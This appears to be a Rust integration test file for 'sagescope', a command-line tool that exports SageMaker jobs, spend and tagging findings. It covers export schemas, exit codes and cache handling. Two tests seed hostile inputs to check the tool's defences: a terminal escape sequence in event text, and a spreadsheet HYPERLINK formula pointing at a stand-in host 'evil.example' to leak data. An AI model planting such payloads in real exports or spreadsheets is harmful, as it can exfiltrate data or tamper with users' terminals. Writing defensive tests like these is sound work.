//! The export contract and exit codes, through the real binary.

use assert_cmd::Command;
use serde_json::Value;

use crate::support;

/// A command isolated from the developer's own config, cache and logs.
fn sagescope(home: &tempfile::TempDir) -> Command {
    let mut cmd = Command::cargo_bin("sagescope").expect("binary is built");
    cmd.env("XDG_CONFIG_HOME", home.path().join("config"))
        .env("XDG_CACHE_HOME", home.path().join("cache"))
        .env("XDG_STATE_HOME", home.path().join("state"))
        .env_remove("SAGESCOPE_CONFIG");
    cmd
}

fn json_of(output: &std::process::Output) -> Value {
    serde_json::from_slice(&output.stdout).expect("stdout is JSON")
}

/// Runs `cmd` and checks it exits 0 (stderr shown otherwise).
fn succeeds(cmd: &mut Command) -> std::process::Output {
    let out = cmd.output().expect("runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

/// The cells of column `name` of a CSV document, read back with a CSV reader.
fn csv_column(csv: &[u8], name: &str) -> Vec<String> {
    let mut reader = csv::Reader::from_reader(csv);
    let at = reader
        .headers()
        .expect("a header")
        .iter()
        .position(|h| h == name)
        .expect("the column");
    reader
        .records()
        .map(|r| r.expect("a record")[at].to_string())
        .collect()
}

fn keys(row: &Value) -> Vec<String> {
    let mut k: Vec<String> = row.as_object().expect("object").keys().cloned().collect();
    k.sort();
    k
}

fn sorted(names: &[&str]) -> Vec<String> {
    let mut v: Vec<String> = names.iter().map(|s| s.to_string()).collect();
    v.sort();
    v
}

#[test]
fn demo_jobs_export_follows_the_contract() {
    let home = tempfile::tempdir().expect("tempdir");
    let out = sagescope(&home)
        .args(["export", "jobs", "--demo"])
        .output()
        .expect("runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let doc = json_of(&out);
    assert_eq!(doc["source"], "demo");
    assert!(chrono::DateTime::parse_from_rfc3339(doc["as_of"].as_str().expect("string")).is_ok());
    assert_eq!(doc["errors"], Value::Array(vec![]));
    let rows = doc["rows"].as_array().expect("rows");
    assert!(rows.len() >= 200);
    let expected = sorted(&[
        "account_id",
        "account_name",
        "region",
        "kind",
        "name",
        "arn",
        "status",
        "created_at",
        "ended_at",
        "instance_type",
        "instance_count",
        "failure_reason",
        "usd_per_hour",
        "usd_so_far",
        "cpu_util",
        "gpu_util",
        "invocations_24h",
        "flags",
        "stale",
        "console_url",
        "owner",
        "last_activity_at",
        "endpoint",
        "copies",
        "cpu_cores_per_copy",
        "accelerators_per_copy",
        "memory_mb_per_copy",
        "instance_groups",
        "failed_nodes",
        "cost_usd",
        "cost_source",
        "created_by",
        "created_by_source",
        "created_by_parent",
        "stopped_by",
        "deleted_by",
    ]);
    for row in rows {
        assert_eq!(keys(row), expected);
        let (region, name) = (row["region"].as_str(), row["name"].as_str());
        let (Some(region), Some(name)) = (region, name) else {
            panic!("region and name are strings: {row}");
        };
        let page = match row["kind"].as_str() {
            Some("training") => "jobs",
            Some("processing") => "processing-jobs",
            Some("transform") => "transform-jobs",
            Some("tuning") => "hyper-tuning-jobs",
            Some("endpoint") => "endpoints",
            Some("notebook") => "notebook-instances",
            // A Studio app's page is its domain's.
            Some("app") => {
                let url = row["console_url"].as_str().expect("an app has a page");
                assert!(url.contains("#/studio/d-"), "{url}");
                continue;
            }
            // Neither has a console page its ARN can address.
            Some("inference-component" | "hyperpod-cluster") => {
                assert_eq!(row["console_url"], Value::Null, "{row}");
                continue;
            }
            other => panic!("a job kind: {other:?}"),
        };
        assert_eq!(
            row["console_url"],
            format!(
                "https://{region}.console.aws.amazon.com/sagemaker/home?region={region}#/{page}/{name}"
            ),
        );
    }
    assert!(
        rows.iter()
            .any(|r| r["status"] == "Failed" && r["failure_reason"].is_string())
    );
    assert!(rows.iter().any(|r| r["ended_at"].is_null()));
}

#[test]
fn demo_spend_export_has_untagged_rows_and_respects_group_by() {
    let home = tempfile::tempdir().expect("tempdir");
    let out = sagescope(&home)
        .args(["export", "spend", "--demo", "--group-by", "project"])
        .output()
        .expect("runs");
    assert!(out.status.success());
    let doc = json_of(&out);
    let rows = doc["rows"].as_array().expect("rows");
    let expected = sorted(&[
        "start",
        "end",
        "group_key",
        "group_value",
        "amount",
        "unit",
        "estimated",
    ]);
    for row in rows {
        assert_eq!(keys(row), expected);
        assert_eq!(row["group_key"], "project");
        assert!(row["amount"].is_number());
        let start =
            chrono::NaiveDate::parse_from_str(row["start"].as_str().expect("s"), "%Y-%m-%d")
                .expect("date");
        let end = chrono::NaiveDate::parse_from_str(row["end"].as_str().expect("s"), "%Y-%m-%d")
            .expect("date");
        assert_eq!(
            end - start,
            chrono::Duration::days(1),
            "daily rows, end exclusive"
        );
    }
    assert!(
        rows.iter().any(|r| r["group_value"] == ""),
        "the untagged share is present"
    );
}

#[test]
fn demo_untagged_export_lists_findings() {
    let home = tempfile::tempdir().expect("tempdir");
    let out = sagescope(&home)
        .args(["export", "untagged", "--demo"])
        .output()
        .expect("runs");
    assert!(out.status.success());
    let doc = json_of(&out);
    let rows = doc["rows"].as_array().expect("rows");
    let expected = sorted(&[
        "account_id",
        "account_name",
        "region",
        "kind",
        "name",
        "arn",
        "missing",
        "miscased",
        "invalid",
        "rule_source",
        "studio_domain_arn",
        "studio_user_profile_arn",
        "console_url",
        "cost_usd",
        "cost_source",
        "created_by",
        "created_by_source",
        "created_by_parent",
    ]);
    for row in rows {
        assert_eq!(keys(row), expected);
        // Pipelines, model package groups, feature groups and experiments live in Studio;
        // components and clusters have no page their ARN addresses.
        let studio_only = [
            "pipeline",
            "model-package-group",
            "feature-group",
            "experiment",
            "inference-component",
            "hyperpod-cluster",
        ];
        if studio_only.contains(&row["kind"].as_str().unwrap_or_default()) {
            assert!(row["console_url"].is_null(), "{row}");
            continue;
        }
        let url = row["console_url"]
            .as_str()
            .expect("every other finding has a page");
        assert!(
            url.starts_with("https://") && url.contains(".console.aws.amazon.com/sagemaker/"),
            "{url}"
        );
    }
    let miscased = rows
        .iter()
        .flat_map(|r| r["miscased"].as_array().into_iter().flatten())
        .next()
        .expect("some miscased key");
    assert!(miscased["expected"].is_string() && miscased["found"].is_string());
    let invalid = rows
        .iter()
        .flat_map(|r| r["invalid"].as_array().into_iter().flatten())
        .next()
        .expect("some invalid value");
    assert!(invalid["allowed"].is_array());
}

#[test]
fn csv_exports_have_a_header_and_the_same_row_count() {
    let home = tempfile::tempdir().expect("tempdir");
    for (view, header) in [
        (
            "jobs",
            "account_id,account_name,region,kind,name,arn,status,created_at,ended_at,instance_type,instance_count,failure_reason,usd_per_hour,usd_so_far,cpu_util,gpu_util,invocations_24h,flags,stale,console_url,owner,last_activity_at,endpoint,copies,cpu_cores_per_copy,accelerators_per_copy,memory_mb_per_copy,instance_groups,failed_nodes,cost_usd,cost_source,created_by,created_by_source,created_by_parent,stopped_by,deleted_by",
        ),
        (
            "spend",
            "start,end,group_key,group_value,amount,unit,estimated",
        ),
        (
            "untagged",
            "account_id,account_name,region,kind,name,arn,missing,miscased,invalid,rule_source,studio_domain_arn,studio_user_profile_arn,console_url,cost_usd,cost_source,created_by,created_by_source,created_by_parent",
        ),
    ] {
        let csv_out = sagescope(&home)
            .args(["export", view, "--demo", "--format", "csv"])
            .output()
            .expect("runs");
        assert!(csv_out.status.success());
        let json_out = sagescope(&home)
            .args(["export", view, "--demo"])
            .output()
            .expect("runs");
        let mut reader = csv::Reader::from_reader(csv_out.stdout.as_slice());
        let got_header: Vec<String> = reader
            .headers()
            .expect("header")
            .iter()
            .map(String::from)
            .collect();
        assert_eq!(got_header.join(","), header);
        let records = reader
            .records()
            .collect::<Result<Vec<_>, _>>()
            .expect("valid CSV");
        assert_eq!(
            records.len(),
            json_of(&json_out)["rows"].as_array().expect("rows").len(),
            "{view}"
        );
    }
}

#[test]
fn a_wrong_type_in_the_config_exits_2_with_its_location() {
    let home = tempfile::tempdir().expect("tempdir");
    let config = home.path().join("bad.toml");
    std::fs::write(
        &config,
        "[[accounts]]\nname = \"dev\"\nregions = \"us-east-1\"\n",
    )
    .expect("writes");
    let out = sagescope(&home)
        .args(["export", "jobs", "--offline", "--config"])
        .arg(&config)
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(&format!("{}:3:11:", config.display())),
        "{stderr}"
    );
    assert!(!stderr.contains("panicked"), "{stderr}");
}

#[test]
fn offline_without_a_snapshot_says_so_and_exits_1() {
    let home = tempfile::tempdir().expect("tempdir");
    let out = sagescope(&home)
        .args(["export", "jobs", "--offline"])
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("no snapshot yet"), "{stderr}");
    assert!(out.stdout.is_empty());
}

#[test]
fn a_garbage_cache_is_moved_aside_then_offline_reports_no_snapshot() {
    let home = tempfile::tempdir().expect("tempdir");
    let dir = home.path().join("cache/sagescope");
    std::fs::create_dir_all(&dir).expect("mkdir");
    std::fs::write(dir.join("cache.db"), vec![0xAB; 4096]).expect("writes garbage");
    let out = sagescope(&home)
        .args(["export", "jobs", "--offline"])
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("moved to"), "{stderr}");
    assert!(stderr.contains("no snapshot yet"), "{stderr}");
    assert!(!stderr.contains("panicked"), "{stderr}");
}

#[test]
fn offline_serves_the_cached_snapshot() {
    let home = tempfile::tempdir().expect("tempdir");
    let path = home.path().join("cache/sagescope/cache.db");
    let world = sagescope::demo::world(chrono::Utc::now());
    let mut cache = sagescope::cache::Cache::open(&path).expect("opens").cache;
    support::tui::seed_cache(&mut cache, &world);
    drop(cache);
    let out = sagescope(&home)
        .args(["export", "jobs", "--offline"])
        .output()
        .expect("runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let doc = json_of(&out);
    assert_eq!(doc["source"], "cache");
    assert_eq!(
        doc["rows"].as_array().expect("rows").len(),
        world.jobs.rows.len()
    );
}

#[test]
fn demo_and_offline_together_are_a_usage_error() {
    let home = tempfile::tempdir().expect("tempdir");
    usage_error(&home, &["export", "jobs", "--demo", "--offline"]);
}

#[test]
fn every_command_explains_itself() {
    let home = tempfile::tempdir().expect("tempdir");
    for args in [
        vec!["--help"],
        vec!["refresh", "--help"],
        vec!["export", "--help"],
    ] {
        let out = sagescope(&home).args(&args).output().expect("runs");
        assert!(out.status.success());
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(text.len() > 200, "{args:?} help is more than a usage line");
    }
    let top = sagescope(&home).arg("--help").output().expect("runs");
    assert!(String::from_utf8_lossy(&top.stdout).contains("--demo"));
}

#[test]
fn demo_jobs_carry_burn_and_health_flags() {
    let home = tempfile::tempdir().expect("tempdir");
    let out = sagescope(&home)
        .args(["export", "jobs", "--demo"])
        .output()
        .expect("runs");
    let doc = json_of(&out);
    let rows = doc["rows"].as_array().expect("rows");
    let has_flag = |row: &Value, flag: &str| {
        row["flags"]
            .as_array()
            .is_some_and(|f| f.iter().any(|x| x == flag))
    };
    assert!(
        rows.iter()
            .any(|r| r["kind"] == "endpoint" && has_flag(r, "idle") && r["invocations_24h"] == 0),
        "an idle endpoint is flagged"
    );
    assert!(
        rows.iter()
            .any(|r| r["kind"] == "training" && has_flag(r, "underutilized")),
        "an underutilised training job is flagged"
    );
    let running_priced = rows
        .iter()
        .filter(|r| r["status"] == "InProgress" || r["status"] == "InService")
        .filter(|r| r["usd_per_hour"].as_f64().is_some_and(|usd| usd > 0.0))
        .count();
    assert!(
        running_priced > 10,
        "running resources show $/h ({running_priced})"
    );
    for row in rows.iter().filter(|r| r["status"] == "Completed") {
        assert!(
            row["usd_per_hour"].is_null(),
            "finished jobs burn nothing: {row}"
        );
    }
}

const EVENT_FIELDS: [&str; 11] = [
    "at",
    "event",
    "account_id",
    "account_name",
    "region",
    "kind",
    "name",
    "arn",
    "status",
    "previous_status",
    "detail",
];

#[test]
fn demo_events_export_is_the_timeline_newest_first_in_json_and_csv() {
    let home = tempfile::tempdir().expect("tempdir");
    let out = sagescope(&home)
        .args(["export", "events", "--demo"])
        .output()
        .expect("runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let doc = json_of(&out);
    assert_eq!(doc["source"], "demo");
    let rows = doc["rows"].as_array().expect("rows");
    assert!(rows.len() > 50, "{}", rows.len());
    for row in rows {
        assert_eq!(keys(row), sorted(&EVENT_FIELDS));
    }
    let times: Vec<chrono::DateTime<chrono::FixedOffset>> = rows
        .iter()
        .map(|r| {
            chrono::DateTime::parse_from_rfc3339(r["at"].as_str().expect("at")).expect("rfc3339")
        })
        .collect();
    assert!(times.windows(2).all(|w| w[0] >= w[1]), "newest first");
    let failed = rows
        .iter()
        .find(|r| r["event"] == "job_failed")
        .expect("a failure");
    assert_eq!(failed["status"], "Failed");
    assert_eq!(failed["previous_status"], "InProgress");
    assert!(failed["detail"].is_string(), "{failed}");

    // --since keeps the last day only.
    let out = sagescope(&home)
        .args(["export", "events", "--demo", "--since", "1d"])
        .output()
        .expect("runs");
    let recent = json_of(&out)["rows"].as_array().expect("rows").clone();
    let day_ago = chrono::Utc::now() - chrono::Duration::days(1) - chrono::Duration::minutes(1);
    assert!(!recent.is_empty() && recent.len() < rows.len());
    for row in &recent {
        let at = chrono::DateTime::parse_from_rfc3339(row["at"].as_str().expect("at")).expect("at");
        assert!(at >= day_ago, "{row}");
    }

    let out = sagescope(&home)
        .args(["export", "events", "--demo", "--format", "csv"])
        .output()
        .expect("runs");
    assert!(out.status.success());
    let text = String::from_utf8(out.stdout).expect("utf-8");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .expect("header")
        .iter()
        .map(str::to_string)
        .collect();
    assert_eq!(header, EVENT_FIELDS);
    assert_eq!(reader.records().count(), rows.len());
}

#[test]
fn offline_events_export_reads_the_cached_timeline_and_csv_keeps_the_text_as_received() {
    use sagescope::model::{Event, EventKind, ResourceKind, SeenChanges};
    let home = tempfile::tempdir().expect("tempdir");
    let path = home.path().join("cache/sagescope/cache.db");
    let now = chrono::Utc::now();
    let world = sagescope::demo::world(now);
    let mut cache = sagescope::cache::Cache::open(&path).expect("opens").cache;
    support::tui::seed_cache(&mut cache, &world);
    let event = |hours: i64, name: &str| Event {
        at: now - chrono::Duration::hours(hours),
        event: EventKind::JobFailed,
        account_id: "111111111111".into(),
        account_name: "prod".into(),
        region: "us-east-1".into(),
        kind: Some(ResourceKind::Training),
        name: name.into(),
        arn: format!("arn:aws:sagemaker:us-east-1:111111111111:training-job/{name}"),
        status: Some("Failed".into()),
        previous_status: Some("InProgress".into()),
        detail: Some("AlgorithmError: \u{1b}]0;pwned\u{7}".into()),
    };
    cache
        .record_events(
            &SeenChanges::default(),
            &[event(1, "recent"), event(48, "older")],
            now - chrono::Duration::days(90),
        )
        .expect("records");
    drop(cache);

    let out = sagescope(&home)
        .args(["export", "events", "--offline", "--since", "1d"])
        .output()
        .expect("runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let doc = json_of(&out);
    assert_eq!(doc["source"], "cache");
    let rows = doc["rows"].as_array().expect("rows");
    assert_eq!(rows.len(), 1, "{rows:?}");
    assert_eq!(rows[0]["name"], "recent");
    assert_eq!(
        rows[0]["detail"], "AlgorithmError: \u{1b}]0;pwned\u{7}",
        "JSON carries it escaped"
    );

    let out = sagescope(&home)
        .args(["export", "events", "--offline", "--format", "csv"])
        .output()
        .expect("runs");
    // A CSV file carries the data as received (its reader gets the same text back); only
    // the terminal paths make control characters visible.
    assert_eq!(
        csv_column(&out.stdout, "detail"),
        ["AlgorithmError: \u{1b}]0;pwned\u{7}"; 2],
        "header and both events"
    );

    let out = sagescope(&home)
        .args(["export", "jobs", "--offline", "--since", "1d"])
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(2), "--since is for events only");
}

/// Runs `args` and checks it is a usage error (exit 2) that prints nothing and no panic;
/// answers its stderr.
fn usage_error(home: &tempfile::TempDir, args: &[&str]) -> String {
    let out = sagescope(home).args(args).output().expect("runs");
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
    assert!(!stderr.contains("panicked"), "{args:?}: {stderr}");
    assert!(out.stdout.is_empty(), "{args:?}: nothing printed");
    stderr
}

#[test]
fn since_of_99999999999999_days_exits_2_with_a_message_not_a_panic() {
    let home = tempfile::tempdir().expect("tempdir");
    // The first overflows a duration; the second is a duration, but reaches before the
    // earliest date there is.
    for age in ["99999999999999d", "100000000d"] {
        let stderr = usage_error(&home, &["export", "events", "--demo", "--since", age]);
        assert!(
            stderr.contains(&format!("`{age}` is too far back")),
            "{stderr}"
        );
    }
}

#[test]
fn out_of_range_numbers_on_the_command_line_exit_2_without_a_panic() {
    let home = tempfile::tempdir().expect("tempdir");
    let runs: [&[&str]; 4] = [
        &["export", "spend", "--demo", "--days", "4000000000"],
        &["export", "spend", "--demo", "--days", "0"],
        &["logs", "some-job", "--demo", "--interval", "inf"],
        &["logs", "some-job", "--demo", "--since", "99999999999999w"],
    ];
    for args in runs {
        let stderr = usage_error(&home, args);
        assert!(
            stderr.contains(args[args.len() - 1]),
            "names the value: {stderr}"
        );
    }
}

#[test]
fn raw_is_for_csv_only() {
    let home = tempfile::tempdir().expect("tempdir");
    let stderr = usage_error(&home, &["export", "jobs", "--demo", "--raw"]);
    assert!(
        stderr.contains("--raw only applies to --format csv"),
        "{stderr}"
    );
    succeeds(sagescope(&home).args(["export", "spend", "--demo", "--format", "csv", "--raw"]));
}

#[test]
fn an_error_of_an_account_outside_the_slice_does_not_make_the_export_partial() {
    use sagescope::model::FetchError;
    let home = tempfile::tempdir().expect("tempdir");
    let path = home.path().join("cache/sagescope/cache.db");
    let mut world = sagescope::demo::world(chrono::Utc::now());
    world.jobs.errors = vec![FetchError {
        account: "research".into(),
        region: Some("us-east-1".into()),
        message: "AccessDenied".into(),
        ..FetchError::default()
    }];
    let mut cache = sagescope::cache::Cache::open(&path).expect("opens").cache;
    support::tui::seed_cache(&mut cache, &world);
    drop(cache);
    let export = |account: &str| {
        let out = sagescope(&home)
            .args(["export", "jobs", "--offline", "--account", account])
            .output()
            .expect("runs");
        (out.status.code(), json_of(&out))
    };

    let (code, doc) = export("ml-prod");
    assert_eq!(code, Some(0), "research's failure is not ml-prod's: {doc}");
    assert_eq!(doc["errors"], Value::Array(vec![]));
    assert!(!doc["rows"].as_array().expect("rows").is_empty());

    // By id too; and the failing account's own slice is partial, its error listed.
    let (code, _) = export("222222222222");
    assert_eq!(code, Some(0));
    for research in ["research", "333333333333"] {
        let (code, doc) = export(research);
        assert_eq!(code, Some(3), "{research}");
        assert_eq!(doc["errors"][0]["account"], "research");
    }
}

#[test]
fn a_formula_in_a_tag_value_is_defused_in_csv_unless_raw() {
    let formula = "=HYPERLINK(\"http://evil.example/?leak\",\"click\")";
    let home = tempfile::tempdir().expect("tempdir");
    let path = home.path().join("cache/sagescope/cache.db");
    let mut world = sagescope::demo::world(chrono::Utc::now());
    let row = world
        .spend
        .rows
        .iter_mut()
        .find(|r| r.group_key == "project")
        .expect("the demo spends by project");
    row.group_value = formula.into();
    let mut cache = sagescope::cache::Cache::open(&path).expect("opens").cache;
    support::tui::seed_cache(&mut cache, &world);
    drop(cache);
    let values = |extra: &[&str]| -> Vec<String> {
        let out = succeeds(
            sagescope(&home)
                .args(["export", "spend", "--offline", "--format", "csv"])
                .args(["--group-by", "project"])
                .args(extra),
        );
        csv_column(&out.stdout, "group_value")
    };
    let defused = values(&[]);
    assert!(defused.contains(&format!("'{formula}")), "{defused:?}");
    assert!(!defused.contains(&formula.to_string()));
    let raw = values(&["--raw"]);
    assert!(raw.contains(&formula.to_string()), "{raw:?}");
}
